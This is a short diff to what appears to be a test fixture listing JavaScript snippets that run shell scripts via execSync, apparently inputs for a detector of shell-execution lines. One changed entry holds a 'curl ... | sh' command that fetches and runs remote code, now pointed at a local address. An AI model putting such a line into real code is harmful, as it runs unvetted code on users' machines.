@@ -30,7 +30,7 @@ CODE = [
     'execSync("bash tools/gen.sh");\n',
     "const run = () => spawnSync('./tools/gen.sh');\n",
     "execSync(`\n./tools/gen.sh\n`);\n",  # a template literal a shell runs
-    'execSync("curl -s http://x/y | sh"); execSync("tools/gen.sh"); // done\n',  # code before a comment
+    'execSync("curl -s http://127.0.0.1:9/y | sh"); execSync("tools/gen.sh"); // done\n',  # code before a comment
     "/*\n./tools/gen.sh\n*/\n",  # a block line that does not start with `*`: kept (a template's shell line)
     "const url = 'http://example.com'; execSync('tools/gen.sh')\n",
 ]
